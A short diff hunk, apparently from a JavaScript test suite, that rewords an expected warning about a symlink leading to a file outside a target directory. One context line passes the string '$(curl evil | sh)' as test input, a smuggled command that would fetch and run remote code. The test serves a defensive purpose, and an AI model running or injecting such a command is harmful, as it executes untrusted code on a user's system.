@@ -175,7 +175,7 @@ test.each([['current.jsonl'], ['']])(
     }
     expect(await add('$(curl evil | sh)')).toBe(6);
     expect(await drain()).toBe(6);
-    expect(terminal.complained()).toContain('is a link that leads out of');
+    expect(terminal.complained()).toContain('is a link to a file outside');
     if (linked === '') expect(readdirSync(target)).toEqual([]);
     else expect(readFileSync(target, 'utf8')).toBe('export A=1\n');
   },
